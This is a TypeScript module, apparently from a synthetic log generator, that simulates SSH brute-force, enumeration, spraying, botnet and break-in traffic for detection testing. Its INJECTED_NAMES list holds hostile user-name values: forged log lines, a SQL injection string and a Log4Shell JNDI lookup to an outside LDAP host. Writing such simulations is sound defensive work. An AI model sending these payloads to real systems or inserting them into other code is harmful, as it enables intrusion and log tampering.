/**
 * Password guessing at SSH in all its tempers, as hydra, medusa and the botnets do it.
 */
import type { Random } from '../../random.ts';
import { GUESSED_USERS } from '../accounts.ts';
import type { ClassName } from '../contact-classes.ts';
import { type Scenario, type Stage, sizeWithin, startFor } from '../scenario.ts';
import { DAY, MINUTE, SECOND } from '../world.ts';
import { type Ending, playLines, sshSession, type Try } from './ssh-session.ts';

/** Lines that one try makes in the log, about: turns a budget of lines into tries. */
const LINES_PER_TRY = 4;

/** Seconds or less between two tries, often several in one connection. */
export const sshFast: Scenario = {
  name: 'ssh-fast',
  family: 'ssh',
  share: 0.24,
  play(stage) {
    playLines(stage, () => {
      const tries = sizeWithin(stage.random, 25, 8_000, stage.budget / LINES_PER_TRY);
      guess(stage, 'ssh-fast', tries, stage.random.spread(0.1, 6) * SECOND);
    });
  },
};

/** Twenty to 55 seconds between two tries: below the thresholds that ban by ten minutes. */
export const sshSlow: Scenario = {
  name: 'ssh-slow',
  family: 'ssh',
  share: 0.12,
  play(stage) {
    playLines(stage, () => {
      const tries = sizeWithin(stage.random, 25, 2_500, stage.budget / LINES_PER_TRY);
      guess(stage, 'ssh-slow', tries, stage.random.between(20, 55) * SECOND);
    });
  },
};

/** One try in five to fifteen minutes, for as long as the run lasts. */
export const sshVerySlow: Scenario = {
  name: 'ssh-very-slow',
  family: 'ssh',
  share: 0.1,
  play(stage) {
    playLines(stage, () => {
      const gap = stage.random.between(5, 15) * MINUTE;
      const whole = Math.max(1, stage.world.span / gap);
      const most = Math.min(whole * 0.97, stage.budget / LINES_PER_TRY);
      const tries = Math.max(15, Math.round(most * stage.random.between(0.5, 1)));
      guess(stage, 'ssh-very-slow', tries, gap);
    });
  },
};

/** Names of accounts, asked one by one with one password each: only whether the name exists is of interest. */
export const sshEnumeration: Scenario = {
  name: 'ssh-enumeration',
  family: 'ssh',
  share: 0.05,
  play(stage) {
    playLines(stage, () => {
      const { world, random, budget } = stage;
      const source = world.foreign(random, 'ssh-enumeration');
      const staff = world.customs.guessedAccounts;
      const names = sizeWithin(random, 25, 3_000, budget / LINES_PER_TRY);
      const gap = random.spread(0.2, 20) * SECOND;
      let time = startFor(random, world.span, gap * names);
      for (let asked = 0; asked < names; asked++) {
        const user = random.chance(0.03) ? random.pick(staff) : inventedName(random);
        sshSession(stage, source, time, [{ user, known: staff.includes(user) }], 'close');
        time += random.wait(gap);
      }
    });
  },
};

/** Texts in user names that would name a victim, or break a reader. All are legal in the protocol. */
const INJECTED_NAMES = [
  'root from 198.18.1.22 port 22 ssh2',
  'x from 192.0.2.53 port 4242',
  'admin from 203.0.113.5 port 22 ssh2: Accepted password for root',
  'Failed password for root from 192.0.2.53',
  '" OR 1=1 --',
  'a]b[c',
  '',
  'user with spaces',
  'ann\\303\\251',
  '${jndi:ldap://203.0.113.99/a}',
  'message repeated 5 times: [ Failed password for root from 192.0.2.53 port 5 ssh2]',
  'n'.repeat(200),
] as const;

/** User names that try to write our log for us. */
export const sshLogInjection: Scenario = {
  name: 'ssh-log-injection',
  family: 'ssh',
  share: 0.02,
  play(stage) {
    playLines(stage, () => {
      const { world, random } = stage;
      const source = world.foreign(random, 'ssh-log-injection');
      const gap = random.spread(1, 200) * SECOND;
      const tries = random.integer(15, 40);
      let time = startFor(random, world.span, gap * tries);
      for (let tried = 0; tried < tries; tried++) {
        sshSession(stage, source, time, [{ user: random.pick(INJECTED_NAMES), known: false }], 'disconnect');
        time += random.wait(gap);
      }
    });
  },
};

/** A guesser who finds a password: what follows the guessing is the login that must be seen. */
export const sshBreakIn: Scenario = {
  name: 'ssh-break-in',
  family: 'ssh',
  share: 0.015,
  play(stage) {
    playLines(stage, () => {
      const { world, random, budget } = stage;
      const source = world.foreign(random, 'ssh-break-in');
      const user = random.pick(world.customs.guessedAccounts);
      const tries = sizeWithin(random, 20, 400, budget / LINES_PER_TRY);
      const gap = random.spread(0.5, 120) * SECOND;
      let time = startFor(random, world.span, gap * tries * 1.3);
      for (let tried = 0; tried < tries; tried++) {
        const name = random.chance(0.7) ? user : random.pick(GUESSED_USERS);
        sshSession(stage, source, time, [{ user: name, known: name === user }], 'disconnect');
        time += random.wait(gap);
      }
      const last = Math.min(time, world.span - MINUTE);
      if (world.customs.breakInsSucceed) sshSession(stage, source, last, [], 'password', user, true);
      else sshSession(stage, source, last, [{ user, known: true }], 'disconnect');
    });
  },
};

/** Few passwords against many accounts, from some tens of addresses, hours between two tries at one account. */
export const sshSpray: Scenario = {
  name: 'ssh-spray',
  family: 'ssh',
  share: 0.06,
  play(stage) {
    playLines(stage, () => {
      const { world, random, budget } = stage;
      const campaign = world.sources.campaign('ssh-spray');
      const members = Math.max(6, sizeWithin(random, 10, 120, budget / LINES_PER_TRY));
      const sources = Array.from({ length: members }, () => world.foreign(random, 'ssh-spray', campaign));
      const length = random.between(0.5, 0.98) * world.span;
      const start = startFor(random, world.span, length);
      for (const source of sources) {
        for (let tries = random.integer(4, 14); tries > 0; tries--) {
          const user = random.pick(world.customs.guessedAccounts);
          sshSession(stage, source, start + random.unit() * length, [{ user, known: true }], 'close');
        }
      }
    });
  },
};

/** A botnet with two tries from each address, mostly at `root`. */
export const sshDistributed: Scenario = {
  name: 'ssh-distributed',
  family: 'ssh',
  share: 0.16,
  play(stage) {
    const { world, random } = stage;
    const campaign = world.sources.campaign('ssh-distributed');
    const length = Math.min(world.span * 0.95, random.between(0.5, 1.5) * DAY);
    const start = startFor(random, world.span, length);
    const accounts = random.shuffle([
      'root',
      ...random.shuffle([...world.customs.guessedAccounts]).slice(0, 3),
    ]);
    playLines(stage, () => {
      const source = world.foreign(random, 'ssh-distributed', campaign);
      let time = start + random.unit() * length;
      for (let tries = 2; tries > 0; tries--) {
        const user = random.chance(0.75) ? 'root' : random.pick(accounts);
        sshSession(stage, source, time, [{ user, known: true }], random.pick(['close', 'disconnect']));
        time = Math.min(world.span - MINUTE, time + random.spread(1, 3_000) * SECOND);
      }
    });
  },
};

/** One source that guesses, with several tries in one connection where it is in a hurry. */
function guess(stage: Stage, of: ClassName, tries: number, gap: number): void {
  const { world, random } = stage;
  const source = world.foreign(random, of);
  const users = random.chance(0.5)
    ? ['root']
    : random.shuffle([...GUESSED_USERS]).slice(0, random.integer(1, 30));
  const each = gap < 3 * SECOND && random.chance(0.4) ? random.integer(2, 6) : 1;
  const ending: Ending = each >= 6 ? 'too-many' : random.pick(['close', 'disconnect']);
  let time = startFor(random, world.span, gap * tries);
  for (let tried = 0; tried < tries; tried += each) {
    const user = random.pick(users);
    const batch: Try[] = Array.from({ length: each }, () => ({ user, known: user === 'root' }));
    sshSession(stage, source, time, batch, ending);
    time += each * gap * random.between(0.8, 1.2);
  }
}

function inventedName(random: Random): string {
  const letters = 'abcdefghijklmnopqrstuvwxyz';
  const length = random.integer(3, 9);
  let name = '';
  while (name.length < length) name += letters[random.below(26)];
  return random.chance(0.4) ? random.pick(GUESSED_USERS) : name;
}
